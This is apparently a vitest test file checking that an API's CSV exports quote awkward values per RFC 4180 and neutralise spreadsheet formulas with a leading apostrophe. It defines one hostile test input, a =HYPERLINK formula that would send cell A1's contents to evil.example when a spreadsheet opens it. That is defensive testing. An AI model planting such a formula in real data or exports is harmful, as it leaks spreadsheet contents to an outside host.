/**
 * Every CSV the API writes is RFC 4180 with OWASP formula neutralising (the engine's one
 * formatter, `csv-format.ts`): a plan imported from beats whose ids are hostile — a live
 * `=HYPERLINK(…)`, an id with a comma, a double quote and a newline — comes back through
 * `cells?format=csv` and `export?format=csv` (analyst and viewer layouts) as text that
 * `csv-parse` reads back row for row, with the formula neutralised by a leading `'`.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BOX, createPlan, removeDir, startHarness, uploadBasics, type Harness } from '../testing/harness.js';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
const AWKWARD = 'North, "Lake"\nside';
let h: Harness;
let planId: string;
let cellCount: number;

beforeAll(async () => {
  h = await startHarness();
  const data = await uploadBasics(h);
  const { west: w, south: s, east: e, north: n } = BOX;
  const m = (w + e) / 2;
  const poly = (a: number, b: number) => ({ type: 'Polygon', coordinates: [[[a, s], [b, s], [b, n], [a, n], [a, s]]] });
  const beats = {
    type: 'FeatureCollection',
    features: [
      { type: 'Feature', properties: { beat: FORMULA }, geometry: poly(w, m) },
      { type: 'Feature', properties: { beat: AWKWARD }, geometry: poly(m, e) },
    ],
  };
  const up = await h.http.post('/api/v1/datasets/beats?idField=beat').set(h.auth('analyst')).set('Content-Type', 'application/geo+json').send(JSON.stringify(beats));
  expect(up.status).toBe(201);
  planId = await createPlan(h, { ...data, existing: up.body.id, method: 'import', resolution: 9, name: 'hostile ids' });
  cellCount = (await h.http.get(`/api/v1/plans/${planId}/cells`).set(h.auth('analyst'))).body.rows.length;
}, 120_000);

afterAll(async () => {
  await h.close();
  removeDir(h.dir);
});

describe('CSV answers: RFC 4180 quoting and formula neutralising', () => {
  for (const role of ['analyst', 'viewer'] as const) {
    for (const route of ['cells?format=csv', 'export?format=csv']) {
      it(`${route} as ${role}: hostile beat ids round-trip as text`, async () => {
        const r = await h.http.get(`/api/v1/plans/${planId}/${route}`).set(h.auth(role));
        expect(r.status).toBe(200);
        expect(r.headers['content-type']).toMatch(/^text\/csv/);
        const rows = parse(r.text, { columns: true }) as Array<Record<string, string>>;
        expect(rows.length).toBe(cellCount);
        const ids = new Set(rows.map((x) => x.beat));
        expect(ids).toEqual(new Set([`'${FORMULA}`, AWKWARD]));
        expect(rows.filter((x) => x.beat === AWKWARD).length).toBeGreaterThan(10);
        // no field a spreadsheet would evaluate: every field starting with = + - @ TAB CR is a plain number
        for (const x of rows) for (const v of Object.values(x)) if (/^[=+\-@\t\r]/.test(v)) expect(Number.isFinite(Number(v)), v).toBe(true);
        // the raw text holds the formula only after the neutralising quote
        expect(r.text).not.toMatch(/(^|,)=HYPERLINK/m);
      });
    }
  }
});
